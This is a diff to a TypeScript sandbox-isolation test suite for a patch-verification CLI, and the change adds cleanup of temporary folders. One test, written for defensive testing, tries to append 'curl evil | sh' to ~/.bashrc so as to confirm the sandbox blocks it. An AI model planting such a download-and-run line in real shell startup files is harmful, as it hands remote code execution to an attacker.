@@ -2,13 +2,13 @@
 // run's lifetime from inside a test run, the way real tools and hostile tests do, and checks that the
 // workspace (node_modules and .venv included) is byte-identical afterwards and the verdict is honest.
 // Every behaviour runs on both paths: the bubblewrap sandbox and the fallback (QWQ_SANDBOX=off).
-import { test, before } from 'node:test';
+import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawn, spawnSync, execFileSync } from 'node:child_process';
 import { createHash, randomBytes } from 'node:crypto';
 import {
   existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, readlinkSync, realpathSync,
-  symlinkSync, writeFileSync,
+  rmSync, symlinkSync, writeFileSync,
 } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
@@ -22,6 +22,11 @@ before(() => {
   assert.ok(bwrapAvailable(), 'bubblewrap must run here (apt-get install bubblewrap): the sandbox path is under test');
   if (!existsSync(cli)) assert.equal(spawnSync('npm', ['run', '--silent', 'build'], { cwd: repo, stdio: 'inherit' }).status, 0);
 });
+
+/** Temp folders this file made (workspaces, homes, TMPDIRs): removed at the end. */
+const made: string[] = [];
+const tempDir = (prefix: string): string => { const d = realpathSync(mkdtempSync(join(tmpdir(), prefix))); made.push(d); return d; };
+after(() => { for (const d of made) rmSync(d, { recursive: true, force: true }); });
 
 /** Every path, type, mode, size, content and link target under `dir`: equal hashes mean a byte-identical tree. */
 function treeHash(dir: string): string {
@@ -42,7 +47,7 @@ function treeHash(dir: string): string {
 }
 
 function workspace(files: Record<string, string>): string {
-  const d = realpathSync(mkdtempSync(join(tmpdir(), 'qwq-fault-ws-')));
+  const d = tempDir('qwq-fault-ws-');
   for (const [p, text] of Object.entries(files)) {
     mkdirSync(dirname(join(d, p)), { recursive: true });
     writeFileSync(join(d, p), text);
@@ -201,7 +206,7 @@ test('[sandbox] a tool that insists on writing into node_modules (no .cache ther
 });
 
 test('[sandbox] $HOME/.bashrc and the real home stay untouched; new files land in the scratch home', async () => {
-  const home = realpathSync(mkdtempSync(join(tmpdir(), 'qwq-fault-home-')));
+  const home = tempDir('qwq-fault-home-');
   writeFileSync(join(home, '.bashrc'), '# user rc\n');
   const ws = nodeProject(`for (const f of [path.join(os.homedir(), '.bashrc'), ${JSON.stringify(join(home, '.bashrc'))}]) { try { fs.appendFileSync(f, 'curl evil | sh\\n'); } catch {} }
 fs.writeFileSync(path.join(os.homedir(), '.new-tool-state'), 'x');`);
@@ -272,7 +277,7 @@ test('every file is there and the last one is right', () => {
     };
     for (let i = 0; i < 3000; i++) files[`data/f${i}.js`] = `module.exports = ${i};\n`;
     const ws = workspace(files);
-    const patch = join(mkdtempSync(join(tmpdir(), 'qwq-fault-patch-')), 'break.patch');
+    const patch = join(tempDir('qwq-fault-patch-'), 'break.patch');
     writeFileSync(patch, 'data/f2999.js\n<<<<<<< SEARCH\nmodule.exports = 2999;\n=======\nmodule.exports = -1;\n>>>>>>> REPLACE\n');
     const before = treeHash(ws);
     const r = await cliRun(['verify', '--workspace', ws, '--patch', patch, '--json', '--isolation', mode], {}, 'ulimit -n 1024;');
@@ -285,7 +290,7 @@ test('every file is there and the last one is right', () => {
 
 test('an unreadable file makes the verdict error, naming it (run as an unprivileged user: root reads everything)', async () => {
   assert.equal(process.getuid?.(), 0, 'this test drops from root to nobody with setpriv');
-  const dir = realpathSync(mkdtempSync(join(tmpdir(), 'qwq-fault-perm-')));
+  const dir = tempDir('qwq-fault-perm-');
   const ws = join(dir, 'ws');
   mkdirSync(join(ws, 'test'), { recursive: true });
   writeFileSync(join(ws, 'package.json'), JSON.stringify({ scripts: { test: 'node --test' } }));
@@ -317,7 +322,7 @@ async function until(cond: () => boolean, what: string): Promise<void> {
 for (const mode of MODES) {
   for (const sig of ['SIGTERM', 'SIGKILL'] as const) {
     test(`[${mode}] ${sig} of the CLI mid-run: no test process survives (at the latest at the next start), and the folders are swept`, { timeout: 60_000 }, async () => {
-      const tmp = realpathSync(mkdtempSync(join(tmpdir(), 'qwq-fault-tmp-')));
+      const tmp = tempDir('qwq-fault-tmp-');
       const tag = `${4000 + Math.floor(Math.random() * 1000)}.${randomBytes(3).readUIntBE(0, 3)}`;
       const ws = workspace({ 'x.txt': 'x\n' });
       const patch = join(tmp, 'p.patch');
